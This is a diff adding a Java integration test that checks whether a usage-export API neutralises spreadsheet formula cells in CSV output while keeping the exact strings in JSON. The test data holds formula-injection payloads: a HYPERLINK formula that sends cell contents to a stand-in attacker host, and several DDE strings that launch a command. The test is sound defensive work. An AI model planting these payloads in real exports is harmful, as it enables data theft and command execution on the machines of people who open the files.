@@ -37,6 +37,7 @@ import java.util.LinkedHashSet;
 import java.util.List;
 import java.util.Map;
 import java.util.Set;
+import java.util.TreeSet;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
@@ -67,6 +68,13 @@ class ExportApiIntegrationTest {
   private static final String COMMA_USER = "bob,comma";
   private static final String QUOTE_USER = "q\"uote";
   private static final String NEWLINE_USER = "new\nline";
+  /** Its own account: user ids and endpoint names a spreadsheet would run as formulas. */
+  private static final String GAMMA = "gamma";
+  private static final String GAMMA_KEY = "d4".repeat(32);
+  private static final List<String> FORMULA_USERS = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
+      "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0");
+  private static final Endpoint FORMULA_EP = new Endpoint("=cmd|' /C calc'!A0", "-permaslug", "@Provider",
+      "+endpoint");
 
 
   static final Endpoint OPENAI = new Endpoint("openai/gpt-4o", "openai/gpt-4o-2024-08-06", "OpenAI",
@@ -88,6 +96,7 @@ class ExportApiIntegrationTest {
   private static ActivityServer server;
   private static String acmeKey;
   private static String betaKey;
+  private static String gammaKey;
   private static String ingestToken;
 
   @BeforeAll
@@ -97,6 +106,7 @@ class ExportApiIntegrationTest {
     CredentialStore keys = QueryTestEnv.newKeyStore("activity-export-test");
     acmeKey = QueryTestEnv.newKey(keys, CredentialKind.MANAGEMENT, ACME);
     betaKey = QueryTestEnv.newKey(keys, CredentialKind.MANAGEMENT, BETA);
+    gammaKey = QueryTestEnv.newKey(keys, CredentialKind.MANAGEMENT, GAMMA);
     ingestToken = QueryTestEnv.newKey(keys, CredentialKind.INGEST, null);
     Map<String, String> env = QueryTestEnv.of(endpoint, database, keys.file());
     server = ActivityServer.start(QueryConfig.fromEnv(env), Clock.fixed(NOW, ZoneOffset.UTC));
@@ -147,6 +157,10 @@ class ExportApiIntegrationTest {
         row(ACME, "2026-10-31", A1, "before-range", OPENAI, 1, "1", 1),
         row(BETA, D1, BETA_KEY, BETA_USER, BETA_EP, 99, BETA_MONEY, 1),
         row(BETA, D2, BETA_KEY, "alice", BETA_EP, 98, BETA_MONEY, 1));
+    insert("api_key_hashes", keyRow(GAMMA, GAMMA_KEY));
+    for (int i = 0; i < FORMULA_USERS.size(); i++) {
+      insert("usage_daily", row(GAMMA, D1, GAMMA_KEY, FORMULA_USERS.get(i), FORMULA_EP, i + 1, "1.5", 1));
+    }
     // A higher version of one row in its own part: FINAL must keep only this one.
     insert("usage_daily", row(ACME, D3, A2, "carol", OPENAI, 10, "5.75", 2));
   }
@@ -377,6 +391,42 @@ class ExportApiIntegrationTest {
     records.subList(1, records.size()).forEach(r -> users.add(r.get(0)));
     assertTrue(users.containsAll(List.of(COMMA_USER, QUOTE_USER, NEWLINE_USER, "")), users.toString());
     assertEquals("no-store", response.headers().firstValue("Cache-Control").orElse(""));
+  }
+
+  @Test
+  void csvNeutralisesFormulaCellsWhileJsonAndActivityKeepTheExactStrings() throws Exception {
+    String query = "from=" + D1 + "&to=" + D1 + "&group_by=user,endpoint";
+    String body = export(gammaKey, query + "&format=csv").body();
+    for (String user : FORMULA_USERS) {
+      assertTrue(body.contains("\r\n\"'" + user.replace("\"", "\"\"") + "\","), user + " in " + body);
+    }
+    assertTrue(body.contains(",\"'+endpoint\",\"'=cmd|' /C calc'!A0\",\"'-permaslug\",\"'@Provider\",1,100,"), body);
+    List<List<String>> records = parseCsv(body);
+    assertEquals(FORMULA_USERS.size() + 1, records.size());
+    for (List<String> record : records.subList(1, records.size())) {
+      for (String cell : record.subList(0, 5)) {
+        assertEquals('\'', cell.charAt(0), cell);
+      }
+      for (String number : record.subList(5, record.size())) {
+        new BigDecimal(number); // the totals stay plain numbers
+      }
+    }
+
+    List<String> exported = new ArrayList<>();
+    walk(gammaKey, query, 1000).forEach(r -> {
+      exported.add(r.get("user_id").asText());
+      assertEquals(List.of(FORMULA_EP.id(), FORMULA_EP.model(), FORMULA_EP.permaslug(), FORMULA_EP.provider()),
+          List.of(r.get("endpoint_id").asText(), r.get("model").asText(), r.get("model_permaslug").asText(),
+              r.get("provider_name").asText()));
+    });
+    assertEquals(new TreeSet<>(FORMULA_USERS), new TreeSet<>(exported));
+    JsonNode activity = json(get("Bearer " + gammaKey, ActivityServer.ROUTE, "date=" + D1 + "&group_by=user"));
+    Set<String> users = new TreeSet<>();
+    activity.get("data").forEach(item -> {
+      users.add(item.get("user_id").asText());
+      assertEquals(FORMULA_EP.model(), item.get("model").asText());
+    });
+    assertEquals(new TreeSet<>(FORMULA_USERS), users);
   }
 
   @Test
